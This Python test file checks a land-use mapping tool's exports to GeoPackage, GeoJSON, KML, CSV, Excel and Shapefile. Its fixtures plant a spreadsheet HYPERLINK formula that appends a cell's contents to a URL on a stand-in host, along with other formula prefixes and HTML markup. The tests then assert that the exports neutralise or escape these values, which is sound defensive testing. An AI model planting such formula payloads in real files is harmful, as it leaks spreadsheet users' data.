"""Exports: every format re-read gives back the filtered features, safely and with the filter."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from landmap import geo
from landmap.dataset import load_dataset
from landmap.export import Audience, ExportFormat, export_features, run_export
from landmap.export.shapefile import MAPPING_FILE, shapefile_field_names
from landmap.layers import LAYER_BY_ID
from landmap.query import FeatureFilter, describe_filter, filter_features
from landmap.store import GpkgStore
from tests.conftest import square_4543

FORMULA_NAME = '=HYPERLINK("http://x/?"&A1,"点我")'
FORMULA_VALUES = {"remarks": "+1+2", "contact": "@SUM(1)", "owner_name": "-2+3"}
HTML_NAME = "<b>大水井</b> & 地块"
KML = "{http://www.opengis.net/kml/2.2}"


@pytest.fixture
def frames(tiny_gpkg):
    """The tiny layers, with awkward values: formulas, markup, a plot with a hole."""
    frames = load_dataset(GpkgStore(tiny_gpkg)).frames
    idle = frames["idle_land"].copy()
    idle.loc["T-2", "name"] = FORMULA_NAME
    for key, value in FORMULA_VALUES.items():
        idle.loc["T-2", key] = value
    idle.loc["T-3", "name"] = HTML_NAME
    holed = square_4543(1000, 0, 50).difference(square_4543(1010, 10, 10))
    idle.loc["T-3", "geometry"] = (
        gpd.GeoSeries([holed], crs=geo.METRIC_CRS).to_crs(geo.DISPLAY_CRS).iloc[0]
    )
    frames["idle_land"] = idle
    return frames


@pytest.fixture
def shown(frames):
    return filter_features(frames, FeatureFilter())


FILTER_TEXT = "图层：闲置地、棚改地块、老旧小区、道路"


def export(shown, fmt, **kwargs):
    return export_features(shown, fmt, filter_text=FILTER_TEXT, **kwargs)


def assert_same_features(shown, layer_id, ids, names, statuses, geometries, crs):
    """The re-read features are the shown ones: ids, names, statuses, shapes within 1e-6°."""
    expected = shown[layer_id]
    assert list(ids) == list(expected["id"])
    assert list(names) == list(expected["name"])
    assert list(statuses) == list(expected["status"])
    original = expected.geometry.to_crs(crs).values
    for got, want in zip(geometries, original, strict=True):
        got, want = shapely.normalize(got), shapely.normalize(want)
        assert shapely.equals_exact(got, want, 1e-6), (got, want)


def test_geopackage_has_one_table_per_layer_in_cgcs2000(shown, tmp_path):
    out = export(shown, "gpkg")
    assert out.file_name.endswith(".gpkg") and out.mime_type == "application/geopackage+sqlite3"
    path = tmp_path / out.file_name
    path.write_bytes(out.data)
    tables = {name for name, _ in pyogrio.list_layers(path)}
    assert tables == {*shown, "export_info"}
    for layer_id in shown:
        read = pyogrio.read_dataframe(path, layer=layer_id)
        assert read.crs.to_epsg() == 4490
        assert_same_features(
            shown, layer_id, read["id"], read["name"], read["status"], read.geometry, "EPSG:4490"
        )
        assert "status_label" in read.columns and "contact" in read.columns
    info = pyogrio.read_dataframe(path, layer="export_info")
    assert FILTER_TEXT in set(info["value"])
    assert pyogrio.read_info(path, layer="idle_land")["layer_metadata"]["DESCRIPTION"] == (
        FILTER_TEXT
    )
    read = pyogrio.read_dataframe(path, layer="idle_land").set_index("id")
    assert read.loc["T-2", "name"] == FORMULA_NAME  # data formats keep text exactly
    assert read.loc["T-1", "area_mu"] == pytest.approx(15.0, abs=0.01)


def test_geojson_is_one_rfc7946_collection_with_a_layer_property(shown, tmp_path):
    out = export(shown, "geojson")
    document = json.loads(out.data.decode("utf-8"))
    assert document["type"] == "FeatureCollection"
    assert document["description"] == FILTER_TEXT
    assert {f["properties"]["layer"] for f in document["features"]} == set(shown)
    coordinates = json.dumps([f["geometry"]["coordinates"] for f in document["features"]])
    assert max(len(d) for d in re.findall(r"\.(\d+)", coordinates)) <= 7
    path = tmp_path / out.file_name
    path.write_bytes(out.data)
    read = gpd.read_file(path)
    assert read.crs.to_epsg() == 4326
    for layer_id in shown:
        part = read[read["layer"] == layer_id]
        assert_same_features(
            shown, layer_id, part["id"], part["name"], part["status"], part.geometry, "EPSG:4326"
        )
    # A road carries road fields only, not the plots' (one collection, per-layer properties).
    road = next(f for f in document["features"] if f["properties"]["layer"] == "roads")
    assert "length_km" in road["properties"] and "area_mu" not in road["properties"]


def test_geojson_outer_rings_are_counter_clockwise(shown):
    document = json.loads(export(shown, "geojson").data)
    holed = next(f for f in document["features"] if f["id"] == "T-3")["geometry"]
    outer, hole = holed["coordinates"]
    assert shapely.LinearRing(outer).is_ccw and not shapely.LinearRing(hole).is_ccw


def test_kml_has_a_folder_per_layer_named_placemarks_and_status_colours(shown, tmp_path):
    out = export(shown, "kml")
    root = ET.fromstring(out.data)
    document = root.find(f"{KML}Document")
    assert FILTER_TEXT in document.find(f"{KML}description").text
    folders = document.findall(f"{KML}Folder")
    assert [f.find(f"{KML}name").text for f in folders] == [
        LAYER_BY_ID[layer_id].name.zh for layer_id in shown
    ]
    listed = document.find(f"{KML}Style[@id='idle_land-listed']")
    # 挂牌公告中 is #e65100: KML colours are alpha, blue, green, red.
    assert listed.find(f"{KML}PolyStyle/{KML}color").text == "990051e6"
    path = tmp_path / out.file_name
    path.write_bytes(out.data)
    for layer_id in shown:
        read = gpd.read_file(path, layer=LAYER_BY_ID[layer_id].name.zh)
        assert_same_features(
            shown, layer_id, read["id"], read["Name"], read["status"], read.geometry, "EPSG:4326"
        )


def test_kml_text_is_never_markup(shown):
    root = ET.fromstring(export(shown, "kml").data)
    placemark = next(
        p for p in root.iter(f"{KML}Placemark") if p.find(f"{KML}name").text == HTML_NAME
    )
    balloon = placemark.find(f"{KML}description").text  # Google Earth renders this as HTML
    assert "<b>大水井</b>" not in balloon and "&lt;b&gt;大水井&lt;/b&gt; &amp; 地块" in balloon
    style = root.find(f"{KML}Document/{KML}Style/{KML}BalloonStyle/{KML}text")
    assert style.text == "$[description]"  # no template that pastes raw values


def test_csv_is_utf8_with_bom_wkt_and_chinese_or_english_headers(shown):
    out = export(shown, "csv")
    assert out.data.startswith(b"\xef\xbb\xbf")
    table = pd.read_csv(io.BytesIO(out.data), encoding="utf-8-sig", dtype=str)
    assert list(table.columns[:5]) == ["图层", "编号", "名称", "状态代码", "状态"]
    assert set(table["导出说明"].str.startswith(FILTER_TEXT)) == {True}
    for layer_id in shown:
        short = LAYER_BY_ID[layer_id].short_name.zh
        part = table[table["图层"] == short]
        names = [n[1:] if n.startswith("'=") else n for n in part["名称"]]
        shapes = shapely.from_wkt(part["WKT（WGS84）"].to_numpy())
        assert_same_features(
            shown, layer_id, part["编号"], names, part["状态代码"], shapes, "EPSG:4326"
        )
    english = pd.read_csv(io.BytesIO(export(shown, "csv", lang="en").data), encoding="utf-8-sig")
    assert list(english.columns[:5]) == ["Layer", "ID", "Name", "Status code", "Status"]
    assert "Physical progress (%)" in english.columns


def test_csv_neutralises_formulas(shown):
    rows = list(csv.reader(io.StringIO(export(shown, "csv").data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    row = next(r for r in body if r[header.index("编号")] == "T-2")
    assert row[header.index("名称")] == "'" + FORMULA_NAME
    assert row[header.index("备注")] == "'+1+2"
    assert row[header.index("联系人")] == "'@SUM(1)"
    assert row[header.index("权属单位")] == "'-2+3"
    for r in body:  # no other cell can start a formula either
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in r)


def test_excel_has_a_sheet_per_layer_with_typed_cells_and_the_filter(shown):
    out = export(shown, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(out.data))
    names = [LAYER_BY_ID[layer_id].short_name.zh for layer_id in shown]
    assert workbook.sheetnames == [*names, "导出说明"]
    notes = {r[0]: r[1] for r in workbook["导出说明"].iter_rows(values_only=True)}
    assert notes["筛选条件"] == FILTER_TEXT
    for layer_id in shown:
        sheet = workbook[LAYER_BY_ID[layer_id].short_name.zh]
        assert sheet.freeze_panes == "A2"
        rows = list(sheet.iter_rows(values_only=True))
        header, body = rows[0], rows[1:]
        assert header[:4] == ("编号", "名称", "状态代码", "状态")
        expected = shown[layer_id]
        assert [r[0] for r in body] == list(expected["id"])
        assert [r[1] for r in body] == list(expected["name"])
        assert [r[2] for r in body] == list(expected["status"])
        # The centre point lies on each shape.
        lon, lat = header.index("中心点经度"), header.index("中心点纬度")
        for row, shape in zip(body, expected.geometry, strict=True):
            assert shape.buffer(1e-6).contains(shapely.Point(row[lon], row[lat]))
    sheet = workbook["老旧小区"]
    header = [c.value for c in sheet[1]]
    progress = sheet.cell(row=2, column=header.index("形象进度（%）") + 1)
    assert progress.value == 45 and progress.data_type == "n"
    area = sheet.cell(row=2, column=header.index("面积（亩）") + 1)
    assert isinstance(area.value, float)


def test_excel_dates_are_real_dates(frames):
    reno = frames["renovation"].copy()
    reno.loc["R-1", "planned_start"] = "2026-03-05"
    shown = filter_features({**frames, "renovation": reno}, FeatureFilter(layers=("renovation",)))
    sheet = openpyxl.load_workbook(io.BytesIO(export(shown, "xlsx").data))["老旧小区"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("计划开工") + 1)
    assert cell.is_date and cell.value.date().isoformat() == "2026-03-05"
    assert cell.number_format == "yyyy-mm-dd"


def test_excel_keeps_formula_like_text_as_strings(shown):
    data = export(shown, "xlsx").data
    sheet = openpyxl.load_workbook(io.BytesIO(data))["闲置地"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T-2")
    name = row[header.index("名称")]
    assert name.value == FORMULA_NAME and name.data_type == "s"
    for key, label in (("remarks", "备注"), ("contact", "联系人"), ("owner_name", "权属单位")):
        cell = row[header.index(label)]
        assert cell.value == FORMULA_VALUES[key] and cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # no formula anywhere in the file
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_shapefile_zip_has_ascii_fields_utf8_and_a_mapping_table(shown, tmp_path):
    out = export(shown, "shp")
    assert out.file_name.endswith(".shp.zip")
    with zipfile.ZipFile(io.BytesIO(out.data)) as archive:
        names = set(archive.namelist())
        archive.extractall(tmp_path)
        readme = archive.read("README.txt").decode("utf-8")
        mapping = pd.read_csv(io.BytesIO(archive.read(MAPPING_FILE)), encoding="utf-8-sig")
    assert FILTER_TEXT in readme
    for layer_id in shown:
        parts = {f"{layer_id}{suffix}" for suffix in (".shp", ".shx", ".dbf", ".prj", ".cpg")}
        assert parts <= names
        assert (tmp_path / f"{layer_id}.cpg").read_text().strip().upper() == "UTF-8"
        read = pyogrio.read_dataframe(tmp_path / f"{layer_id}.shp")
        fields = [c for c in read.columns if c != "geometry"]
        assert all(f.isascii() and len(f) <= 10 for f in fields)
        assert len({f.casefold() for f in fields}) == len(fields)
        rows = mapping[mapping["图层"] == layer_id]
        keys = dict(zip(rows["Shapefile 字段"], rows["字段键"], strict=True))
        read = read.rename(columns=keys)
        assert read.crs.to_epsg() == 4490
        assert_same_features(
            shown, layer_id, read["id"], read["name"], read["status"], read.geometry, "EPSG:4490"
        )
        labels = [LAYER_BY_ID[layer_id].status_label(s, "zh") for s in read["status"]]
        assert list(read["status_label"]) == labels  # Chinese text survives
    row = mapping[(mapping["图层"] == "shantytown") & (mapping["字段键"] == "households_signed")]
    assert row.iloc[0]["中文名"] == "已签约户数" and row.iloc[0]["English name"]


def test_shapefile_field_names_are_short_ascii_and_unique():
    keys = [
        "households_total",
        "households_signed",
        "renovation_tier",
        "renovation_items",
        "Progress",
        "progress",
        "面积",
        "2nd_phase",
    ]
    names = shapefile_field_names(keys)
    assert list(names) == keys
    values = list(names.values())
    assert all(v.isascii() and 0 < len(v) <= 10 for v in values)
    assert len({v.casefold() for v in values}) == len(values)
    assert names["households_signed"] == "hous_signe"
    assert not names["2nd_phase"][0].isdigit()


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_an_empty_filter_still_gives_a_valid_file(frames, fmt, tmp_path):
    for flt in (FeatureFilter(layers=()), FeatureFilter(statuses=frozenset({"no_such"}))):
        shown = filter_features(frames, flt)
        out = export_features(shown, fmt, filter_text=describe_filter(flt, "zh"))
        path = tmp_path / out.file_name
        path.write_bytes(out.data)
        assert_valid_empty(path, fmt, shown)


def assert_valid_empty(path: Path, fmt: ExportFormat, shown: dict) -> None:
    if fmt is ExportFormat.GPKG:
        tables = {name for name, _ in pyogrio.list_layers(path)}
        assert tables == {*shown, "export_info"}
        for layer_id in shown:
            assert pyogrio.read_info(path, layer=layer_id)["features"] == 0
    elif fmt is ExportFormat.GEOJSON:
        assert json.loads(path.read_bytes())["features"] == []
    elif fmt is ExportFormat.KML:
        root = ET.fromstring(path.read_bytes())
        assert len(root.findall(f"{KML}Document/{KML}Folder")) == len(shown)
        assert not list(root.iter(f"{KML}Placemark"))
    elif fmt is ExportFormat.CSV:
        assert len(pd.read_csv(path, encoding="utf-8-sig")) == 0
    elif fmt is ExportFormat.XLSX:
        workbook = openpyxl.load_workbook(path)
        assert workbook.sheetnames[-1] == "导出说明"
        assert len(workbook.sheetnames) == len(shown) + 1
    else:
        with zipfile.ZipFile(path) as archive:
            assert "README.txt" in archive.namelist()
            assert archive.testzip() is None


def test_a_public_export_leaves_internal_fields_out(shown):
    document = json.loads(export(shown, "geojson", audience=Audience.PUBLIC).data)
    properties = document["features"][0]["properties"]
    assert "contact" not in properties and "remarks" not in properties
    assert "subdistrict" in properties
    staff = json.loads(export(shown, "geojson").data)["features"][0]["properties"]
    assert "contact" in staff


def test_run_export_writes_the_filtered_layer(tiny_gpkg, tmp_path, capsys):
    out = tmp_path / "道路.geojson"
    code = run_export(GpkgStore(tiny_gpkg), ["roads"], ["planning"], "geojson", out)
    assert code == 0
    document = json.loads(out.read_bytes())
    assert [f["id"] for f in document["features"]] == ["D-2"]
    assert "规划谋划" in document["description"]
    assert "已导出 1 个要素" in capsys.readouterr().out


def test_run_export_refuses_unknown_codes_and_writes_nothing(tiny_gpkg, tmp_path, capsys):
    out = tmp_path / "x.csv"
    assert run_export(GpkgStore(tiny_gpkg), ["roads"], ["listed"], "csv", out) == 2
    assert not out.exists() and "listed" in capsys.readouterr().out
    assert run_export(GpkgStore(tiny_gpkg), ["nope"], [], "csv", out) == 2
    assert run_export(GpkgStore(tmp_path / "missing.gpkg"), [], [], "csv", out) == 1
    assert not out.exists()
